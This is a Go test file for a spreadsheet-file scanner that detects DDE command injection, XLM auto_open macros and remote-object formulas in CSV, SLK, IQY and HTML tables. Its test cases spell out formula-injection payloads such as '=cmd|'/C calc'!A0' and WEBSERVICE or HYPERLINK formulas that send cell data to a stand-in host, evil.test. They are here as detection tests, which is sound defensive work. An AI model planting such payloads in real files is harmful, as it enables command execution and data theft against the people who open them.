package sheet

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"assay/scan"
	"assay/scan/container"
	"assay/verify/vectors"
)

// read reads a file.
func read(name, content string) container.Verdict {
	f := &container.File{
		Name: name, Extension: strings.TrimPrefix(filepath.Ext(name), "."), Content: []byte(content),
		Budget: container.NewBudget(context.Background(), container.Limits{}, nil),
	}
	if !(Reader{}).Reads(f) {
		return container.Verdict{State: "not read"}
	}
	return Reader{}.Read(f, nil)
}

// traits returns the traits of a verdict, in order.
func traits(signs []container.Sign) string {
	var out []string
	for _, s := range signs {
		if !slices.Contains(out, string(s.Trait)) {
			out = append(out, string(s.Trait))
		}
	}
	sort.Strings(out)
	return strings.Join(out, " ")
}

// wide returns a text in UTF-16, little endian, with its mark.
func wide(s string) string {
	out := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return string(out)
}

func TestSigns(t *testing.T) {
	const dde = `=cmd|'/C calc'!A0`
	for _, c := range []struct{ name, in, want string }{
		{"a.csv", "a,b\r\n1,2\r\n", ""},
		{"a.csv", dde, "dde"},
		{"a.csv", "a," + dde + ",b", "dde"},
		{"a.csv", "a;" + dde + ";b", "dde"},
		{"a.tsv", "a\t" + dde, "dde"},
		{"a.csv", `a,"` + dde + `",b`, "dde"},
		{"a.csv", `a,"=cmd|'/C ""calc""'!A0",b`, "dde"},
		{"a.csv", `a;"=1+` + "\n" + `cmd|'/C calc'!A0"`, "dde"},
		{"a.csv", "sep=^\r\na^" + dde + "^b", "dde"},
		{"a.csv", "+cmd|'/C calc'!A0", "dde"},
		{"a.csv", "-2+3+cmd|'/C calc'!A0", "dde"},
		{"a.csv", "@SUM(1+1)*cmd|'/C calc'!A0", "dde"},
		{"a.csv", "a,\t=cmd|'/C calc'!A0", "dde"},
		{"a.csv", "\r=cmd|'/C calc'!A0", "dde"},
		{"a.csv", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "dde"},
		{"a.csv", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "dde"},
		{"a.csv", "=+  thespanishinquisition(cmd|'/c calc.exe'!A", "dde"},
		{"a.csv", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "dde"},
		{"a.csv", "=DDE(\"cmd\",\"/C calc\",\"!A0\")", "dde"},
		{"a.csv", `=A1,"unclosed,` + "\n" + dde, "dde"},
		{"a.csv", wide("a;" + dde + "\r\n"), "dde"},
		{"a.csv", wide("a;" + dde + "\r\n")[2:], "dde"},
		{"a.csv", "\xef\xbb\xbf" + dde, "dde"},
		{"a.dif", "TABLE\r\n0,1\r\n\"EXCEL\"\r\n1,0\r\n\"" + dde + "\"\r\n", "dde"},
		{"a.prn", "1  2\n" + dde, "dde"},
		{"a.csv", `=WEBSERVICE("http://evil.test/"&A1)`, "remote-object"},
		{"a.csv", `=_xlfn.WEBSERVICE("http://evil.test/")`, "remote-object"},
		{"a.csv", `=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")`, "remote-object"},
		{"a.csv", `=HYPERLINK("http://evil.test/?"&A1,"click")`, "remote-object"},

		{"a.csv", "-5,+49 30 123,=SUM(A1:A3),@home,=A1|B1", ""},
		{"a.csv", "+49 (0)30 1234|5,-,=", ""},
		{"a.csv", "- call (030) 123,- image(1),=IF(A1>0;\"a|b'!x\";2)", ""},
		{"a.csv", "x=cmd|'/C calc'!A0", ""},
		{"a.csv", "\"a formula such as =cmd|'/C calc'!A0 is dangerous\"", ""},
		{"a.csv", "-item one|Great !x", ""},
		{"a.csv", "=HYPERLINK(\"#Sheet2!A1\",\"there\")", ""},
		{"a.psv", "-a|b|c\n", "not read"},
		{"a.txt", dde, "not read"},
		{"a.csv", "PK\x03\x04\x00\x00", "not read"},

		{"a.slk", "ID;PWXL;N;E\r\nC;Y1;X1;K0;ECMD|'/c calc'!A0\r\nE\r\n", "dde"},
		{"a.txt", "ID;P\r\nC;Y1;X1;K0;ECMD|'/c calc'!A0\r\nE\r\n", "dde"},
		{"a.slk", "ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC(\"CALC.EXE\")\nC;X1;Y102;K0;EHALT()\nE\n", "xlm-macros"},
		{"a.slk", "ID;P\nNN;Nauto_open;ER1C1\nE\n", "xlm-macros"},
		{"a.slk", "ID;P\rC;Y1;X1;EEXEC(\"calc\")\rE\r", "xlm-macros"},
		{"a.slk", "ID;P\nC;Y1;X1;K0;E\x1b46MD|'/c calc'!A0\nE\n", "dde"},
		{"a.slk", "ID;PWXL;N;E\nP;PGeneral\nF;P0;DG0G8;M255\nB;Y2;X2;D0 0 1 1\nO;L;D;V0;K47;G100 0.001\nC;Y1;X1;K\"a;;b\"\nC;X2;K3;ER1C1+1\nE\n", ""},

		{"a.iqy", "WEB\r\n1\r\nhttp://evil.test/\r\n", "remote-object"},
		{"a.txt", "WEB\n1\nhttp://evil.test/", "remote-object"},
		{"a.dqy", "XLODBC\r\n1\r\nDRIVER=SQL Server\r\n", "remote-object"},
	} {
		v := read(c.name, c.in)
		got := traits(v.Signs)
		if v.State != scan.Inspected {
			got = string(v.State)
		}
		if got != c.want {
			t.Errorf("%s %q: [%s], want [%s]", c.name, c.in, got, c.want)
		}
	}
}

func TestLinks(t *testing.T) {
	for in, want := range map[string]container.Link{
		"WEB\r\n1\r\nhttp://evil.test/ Selection\r\n":          {URL: "http://evil.test/", Source: scan.FromRemote},
		`ID;P` + "\n" + `C;EWEBSERVICE("http://evil.test/")`:   {URL: "http://evil.test/", Source: scan.FromRemote},
		`ID;P` + "\n" + `C;EHYPERLINK("http://evil.test/","")`: {URL: "http://evil.test/", Source: scan.FromAnchor},
	} {
		if v := read("a", in); len(v.Links) != 1 || v.Links[0] != want {
			t.Errorf("%q: %+v", in, v.Links)
		}
	}
}

func TestReadFormula(t *testing.T) {
	for in, want := range map[string]string{
		"of:=DDE(\"soffice\";\"/a\";\"b\")":    "dde",
		"=[1]!A0":                              "",
		"=SUM({1;2|3;4})":                      "",
		"'my app'|'my topic'!item":             "dde",
		"=COM.MICROSOFT.WEBSERVICE(A1)":        "remote-object",
		"=EXEC(\"cmd\")":                       "xlm-macros",
		"=REGISTER.ID(\"a\",\"b\")":            "xlm-macros",
		"='a|b'!A1":                            "",
		"=\"cmd|'/c calc'!A0\"":                "",
		"=Excel|'[a.xls]Sheet1'!R1C1":          "dde",
		"=VLOOKUP(A1,'Sheet 2'!$A$1:$B$9,2,0)": "",
	} {
		if got := traits(ReadFormula(in).Signs); got != want {
			t.Errorf("%q: [%s], want [%s]", in, got, want)
		}
	}
}

func TestSamples(t *testing.T) {
	dir := vectors.Path(t, "scan/samples/active")
	for name, want := range map[string]string{
		"oletools-msodde-dde-in-csv.csv": "dde", "x.slk": "dde", "x.iqy": "remote-object", "strelka-test.iqy": "remote-object",
	} {
		content, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if v := read(name, string(content)); v.State != scan.Inspected || traits(v.Signs) != want {
			t.Errorf("%s: %s [%s], want [%s]", name, v.State, traits(v.Signs), want)
		}
	}
}

// TestBounded expects the time to be linear in what is made to take long.
func TestBounded(t *testing.T) {
	const n = 2 << 20
	for name, unit := range map[string]string{
		"formulas": "=,", "quotes": `"`, "quoted": `"=",`, "bars": "=a|", "apostrophes": "=a|'", "topics": "=a|b", "brackets": "=a(", "blanks": "=    (", "unclosed": `,"=`, "spaces": " ", "escapes": "\x1b",
		"semicolons": ";", "lines": "\n", "names": "C;EEXEC(",
	} {
		for _, ext := range []string{"a.csv", "a.slk"} {
			in := "|(" + strings.Repeat(unit, n/len(unit))
			start := time.Now()
			read(ext, in)
			if took := time.Since(start); took > 15*time.Second {
				t.Errorf("%s, %s takes %v", name, ext, took)
			}
		}
	}
}

func FuzzRead(f *testing.F) {
	for _, s := range []string{
		"=cmd|'/C calc'!A0", `a,"=cmd|'/C ""calc""'!A0",b`, "ID;P\nC;EEXEC(\"a\")\nNN;Nauto_open", "sep=^\n=DDE(1)", "WEB\n1\nhttp://a/", "\xff\xfe=\x00", "\x1b46=A(|'!",
	} {
		f.Add([]byte(s), "csv")
		f.Add([]byte(s), "slk")
	}
	f.Fuzz(func(_ *testing.T, content []byte, extension string) {
		budget := container.NewBudget(context.Background(), container.Limits{Octets: 1 << 20, Time: time.Second}, nil)
		file := &container.File{Content: content, Extension: extension, Budget: budget}
		if (Reader{}).Reads(file) {
			Reader{}.Read(file, nil)
		}
		ReadFormula(string(content))
	})
}

func BenchmarkRead(b *testing.B) {
	bench(b, "")
}

// BenchmarkReadAll reads a table that has to be looked at cell by cell.
func BenchmarkReadAll(b *testing.B) {
	bench(b, "=cmd|'/c calc'!A0\r\n")
}

func bench(b *testing.B, end string) {
	content := strings.Repeat("17,\"a (name)\",+49 30 1234,=SUM(A1:A3),text | text\r\n", 20000) + end
	b.SetBytes(int64(len(content)))
	b.ReportAllocs()
	for b.Loop() {
		read("a.csv", content)
	}
}

// Blanks between its letters do not hide a formula, and HTML that Excel opens has some.
func TestHiddenFormulas(t *testing.T) {
	const page = "<html xmlns:x='urn:schemas-microsoft-com:office:excel'><table><tr><td>%s</td></tr></table></html>"
	for _, test := range []struct {
		name, extension, mediaType, content string
		want                                int
	}{
		{"blanks", "csv", "text/plain", "a,b\n=    C    m D       |        '/        c       c  al  c.e      x       e  '   !   A\n", 1},
		{"words with a bar", "csv", "text/plain", "a,b\n- one | two ! three\n\"= one | two\",wow!\n", 0},
		{"a cell of HTML", "xls", "text/html", strings.Replace(page, "%s", "=cmd|'/c calc'!A0", 1), 1},
		{"references in HTML", "html", "text/html", strings.Replace(page, "%s", "&#61;cmd&#124;'/c calc'!A0", 1), 1},
		{"a formula in a tag", "xls", "text/html", `<table><td x:fmla="=cmd|'/c calc'!A0">1</td></table>`, 1},
		{"a quiet table", "xls", "text/html", strings.Replace(page, "%s", "=SUM(A1:A2)", 1), 0},
		{"an unfinished tag", "xls", "text/html", "<table><td x:fmla=", 0},
	} {
		f := &container.File{Content: []byte(test.content), Extension: test.extension, Type: test.mediaType,
			Budget: container.NewBudget(context.Background(), container.Limits{}, nil)}
		if !(Reader{}).Reads(f) {
			t.Fatalf("%s is not read", test.name)
		}
		if v := (Reader{}).Read(f, nil); len(v.Signs) != test.want || v.State != scan.Inspected {
			t.Errorf("%s: %+v", test.name, v)
		}
	}
}
